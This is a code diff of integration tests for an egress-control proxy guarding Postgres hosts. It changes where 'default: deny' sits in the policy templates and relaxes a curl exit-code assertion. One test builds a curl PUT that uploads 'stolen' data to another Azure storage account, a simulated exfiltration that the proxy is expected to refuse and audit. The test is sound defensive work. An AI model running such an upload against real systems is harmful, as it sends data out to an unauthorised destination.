@@ -73,7 +73,6 @@ intercept:
   # exception, replication would be diverted too.
   - from: [pg-primary, pg-replica]
     except_cidrs: [198.19.0.0/16, "fd00:19::/32"]
-default: deny
 """
 
 
@@ -85,6 +84,7 @@ def baseline_policy() -> str:
             from: [pg-primary]
             to: {{hosts: [{BLOB}], ports: [443]}}
             action: allow
+        default: deny
         """)
 
 
@@ -109,6 +109,7 @@ def injection_policy(s: Scenario, *, auth_443: str) -> str:
             http:
               upstream: {upstream}
               auth: {{azure_shared_key: {{account: {s.account.name}, key_file: {s.key_file}}}}}
+        default: deny
         """)
 
 
@@ -503,8 +504,9 @@ def test_another_storage_account_is_refused_and_audited(s: Scenario) -> None:
     curl = ["curl", "-sS", "--max-time", "10", "--cacert", str(s.pod_azure_ca), "-X", "PUT",
             "-H", "x-ms-blob-type: BlockBlob", "--data-binary", "stolen", url]  # fmt: skip
     proc = s.lab.run("pg-primary", curl, check=False, timeout=30)
-    # 35: the TLS handshake failed (the connection was reset while it waited).
-    assert proc.returncode == 35, (proc.returncode, proc.stderr)
+    # The connection is reset during the TLS handshake: curl says 35 (TLS
+    # connect error) or 56 (receive failure), never that anything came back.
+    assert proc.returncode in (35, 56), (proc.returncode, proc.stderr)
     denied = wait_for(lambda: _divert_records(s, audit_from), "the audit record", timeout=5)
     assert len(denied) == 1, denied
     rec = denied[0]
